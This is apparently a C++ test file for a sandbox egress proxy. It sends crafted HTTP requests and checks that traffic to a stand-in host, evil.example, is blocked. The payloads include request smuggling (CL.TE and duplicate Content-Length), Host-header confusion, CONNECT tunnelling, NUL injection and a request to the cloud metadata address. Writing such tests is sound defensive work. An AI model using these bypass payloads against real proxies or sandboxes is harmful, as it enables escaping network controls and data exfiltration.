// SPDX-License-Identifier: Apache-2.0
#include <array>

#include "wire/wire.hpp"

namespace agentbox::wire {
namespace {

constexpr const char* k_good = "allowed.example";
constexpr std::uint16_t k_http = 80;

/// Returns `text` with each newline as CR LF, and each "@" replaced by the attack's marker.
std::string request(std::string_view attack, std::string_view text) {
  std::string bytes;
  for (const char c : text) {
    if (c == '\n') {
      bytes += "\r\n";
    } else if (c == '~') {
      bytes += marker(attack);
    } else {
      bytes += c;
    }
  }
  return bytes;
}

struct Http {
  const char* name;
  const char* tried;
  std::string_view text; ///< ~ is the marker
};

using namespace std::string_view_literals;

constexpr std::array k_requests = {
    Http{"http-connect", "CONNECT to another host",
         "CONNECT evil.example:443 HTTP/1.1\nHost: allowed.example\nX: ~\n\n"},
    Http{"http-connect-own", "CONNECT to another port of the listed host",
         "CONNECT allowed.example:22 HTTP/1.1\nHost: allowed.example\nX: ~\n\n"},
    Http{"http-absolute", "ask for another host in the request line",
         "GET http://evil.example/~ HTTP/1.1\nHost: allowed.example\n\n"},
    Http{"http-absolute-userinfo", "hide another host behind a user",
         "GET http://allowed.example@evil.example/~ HTTP/1.1\nHost: allowed.example\n\n"},
    Http{"http-absolute-metadata", "ask for metadata in the request line",
         "GET http://169.254.169.254/~ HTTP/1.1\nHost: allowed.example\n\n"},
    Http{"http-other-host", "name another host (Host)", "GET /~ HTTP/1.1\nHost: evil.example\n\n"},
    Http{"http-host-address", "name an address (Host)", "GET /~ HTTP/1.1\nHost: 198.51.100.10\n\n"},
    Http{"http-host-userinfo", "name another host behind a user (Host)",
         "GET /~ HTTP/1.1\nHost: allowed.example@evil.example\n\n"},
    Http{"http-host-port", "name another port (Host)", "GET /~ HTTP/1.1\nHost: allowed.example:8080\n\n"},
    Http{"http-host-suffix", "name a host that starts like the listed one",
         "GET /~ HTTP/1.1\nHost: allowed.example.evil.example\n\n"},
    Http{"http-host-list", "name two hosts in one header", "GET /~ HTTP/1.1\nHost: allowed.example, evil.example\n\n"},
    Http{"http-two-hosts", "send two Host headers", "GET /~ HTTP/1.1\nHost: allowed.example\nHost: evil.example\n\n"},
    Http{"http-two-hosts-reversed", "send two Host headers, the listed one last",
         "GET /~ HTTP/1.1\nHost: evil.example\nHost: allowed.example\n\n"},
    Http{"http-no-host", "name no host", "GET /~ HTTP/1.1\n\n"},
    Http{"http-no-host-10", "name no host, in HTTP/1.0", "GET /~ HTTP/1.0\n\n"},
    Http{"http-09", "speak HTTP/0.9", "GET /~\n"},
    Http{"http-folded", "fold another host into a header",
         "GET /~ HTTP/1.1\nX: y\n Host: evil.example\nHost: allowed.example\n\n"},
    Http{"http-blank-before-colon", "put a blank before the colon",
         "GET /~ HTTP/1.1\nHost : evil.example\nHost: allowed.example\n\n"},
    Http{"http-blank-before-name", "start the first header with a blank",
         "GET /~ HTTP/1.1\n Host: evil.example\nHost: allowed.example\n\n"},
    Http{"http-nul", "hide another host behind a NUL", "GET /~ HTTP/1.1\nHost: allowed.example\0evil.example\n\n"sv},
    Http{"http-chunked", "send a body in chunks",
         "POST /~ HTTP/1.1\nHost: allowed.example\nTransfer-Encoding: chunked\n\n0\n\n"},
    Http{"http-smuggle-cl-te", "smuggle a request (length and chunks)",
         "POST /~ HTTP/1.1\nHost: allowed.example\nContent-Length: 60\nTransfer-Encoding: chunked\n\n0\n\nGET /~ "
         "HTTP/1.1\nHost: evil.example\n\n"},
    Http{"http-smuggle-two-lengths", "smuggle a request (two lengths)",
         "POST /~ HTTP/1.1\nHost: allowed.example\nContent-Length: 0\nContent-Length: 44\n\nGET /~ HTTP/1.1\nHost: "
         "evil.example\n\n"},
    Http{"http-bad-length", "send a length that is not a number",
         "POST /~ HTTP/1.1\nHost: allowed.example\nContent-Length: +5\n\nhello"},
    Http{"http-2-preface", "speak HTTP/2 without an upgrade", "PRI * HTTP/2.0\n\nSM\n\n~"},
    Http{"http-tls", "speak TLS on 80", "\x16\3\1\0\x30\1\0\0\x2c\3\3~"sv},
    Http{"http-ssh", "speak SSH on 80", "SSH-2.0-~\n"},
};

AttackResult try_request(const Http& one) {
  return send_to(k_good, k_http, request(one.name, one.text));
}

template <std::size_t index>
AttackResult try_number(const Expected&) {
  return try_request(k_requests[index]);
}

AttackResult control(const Expected&) {
  const AttackResult result =
      send_to(k_good, k_http, request("control-http", "GET /~ HTTP/1.1\nHost: allowed.example\nConnection: close\n\n"));
  const bool answered = std::string_view(result.text.data()).starts_with("HTTP/1.1 200");
  return attacks::attack_result(answered ? Verdict::works : Verdict::broken, result.text.data());
}

/// Sends to a listed port whose number does not imply a protocol.
AttackResult on_8443(std::string_view name, std::string_view text) {
  return send_to_greeter(k_good, 8443, request(name, text));
}

AttackResult control_8443(const Expected&) {
  const AttackResult result = on_8443("control-http-8443", "GET /~ HTTP/1.1\nHost: allowed.example:8443\n\n");
  return attacks::attack_result(result.verdict == Verdict::allowed ? Verdict::works : Verdict::broken,
                                result.text.data());
}

AttackResult other_host_8443(const Expected&) {
  return on_8443("http-8443-other-host", "GET /~ HTTP/1.1\nHost: evil.example\n\n");
}

AttackResult connect_8443(const Expected&) {
  return on_8443("http-8443-connect", "CONNECT evil.example:443 HTTP/1.1\nHost: allowed.example:8443\nX: ~\n\n");
}

AttackResult empty_line_8443(const Expected&) {
  return on_8443("http-8443-empty-line", "\nGET /~ HTTP/1.1\nHost: evil.example\n\n");
}

// The request itself is valid, and may be answered; the upgrade, with the marker, must not arrive.
AttackResult upgrade(const Expected&) {
  const AttackResult result = send_to(
      k_good, k_http,
      request("http-upgrade-h2c", "GET /plain HTTP/1.1\nHost: allowed.example\nConnection: Upgrade, HTTP2-Settings\n"
                                  "Upgrade: h2c\nHTTP2-Settings: ~\n\n"));
  const bool answered = std::string_view(result.text.data()).starts_with("HTTP/1.1 200");
  return answered ? attacks::attack_result(Verdict::stopped, "a plain answer") : result;
}

/// Sends two requests: the first may pass; the second, which names another host, may not.
template <bool in_one_segment>
AttackResult pipelined(const Expected&) {
  const char* const name = in_one_segment ? "http-pipelined" : "http-second-request";
  const std::string first = request(name, "GET /first HTTP/1.1\nHost: allowed.example\n\n");
  const std::string second = request(name, "GET /~ HTTP/1.1\nHost: evil.example\n\n");
  if (!in_one_segment) {
    return send_second(k_good, k_http, first, second);
  }
  const AttackResult result = send_to(k_good, k_http, first + second);
  // An answer to the first is correct. The sinks record whether the second arrived.
  const bool answered = std::string_view(result.text.data()).starts_with("HTTP/1.1 200");
  return answered ? attacks::attack_result(Verdict::stopped, "one answer") : result;
}

AttackResult huge_head(const Expected&) {
  return send_to(k_good, k_http,
                 request("http-huge-head", "GET /~ HTTP/1.1\nX: ") + std::string(300000, 'x') +
                     request("", "\nHost: evil.example\n\n"));
}

AttackResult bare_newlines(const Expected&) {
  return send_to(k_good, k_http, "GET /" + marker("http-bare-newlines") + " HTTP/1.1\nHost: evil.example\n\n");
}

AttackResult split_host(const Expected&) {
  return send_to(k_good, k_http, request("http-split-host", "GET /~ HTTP/1.1\nHost: evil.example\n\n"), Pace::bytewise);
}

template <std::size_t... index>
auto attacks_of(std::index_sequence<index...>) {
  return std::array{Attack{"control-http", "speak HTTP with a listed host", "allowed", control},
                    Attack{k_requests[index].name, k_requests[index].tried, "proxy", try_number<index>}...,
                    Attack{"control-http-8443", "speak HTTP with a listed host on port 8443", "allowed", control_8443},
                    Attack{"http-8443-other-host", "name another host on port 8443", "proxy", other_host_8443},
                    Attack{"http-8443-connect", "CONNECT to another host on port 8443", "proxy", connect_8443},
                    Attack{"http-8443-empty-line", "begin with an empty line on port 8443", "proxy", empty_line_8443},
                    Attack{"http-pipelined", "pipeline a second request for another host", "proxy", pipelined<true>},
                    Attack{"http-second-request", "send a second request after the answer", "proxy", pipelined<false>},
                    Attack{"http-upgrade-h2c", "upgrade to HTTP/2", "proxy", upgrade},
                    Attack{"http-huge-head", "send a head of 300,000 bytes", "proxy", huge_head},
                    Attack{"http-bare-newlines", "end lines without CR", "proxy", bare_newlines},
                    Attack{"http-split-host", "name another host byte by byte", "proxy", split_host}};
}

const auto k_attacks = attacks_of(std::make_index_sequence<k_requests.size()>());

} // namespace

AttackFamily http_attacks() {
  return {"http", k_attacks};
}

} // namespace agentbox::wire
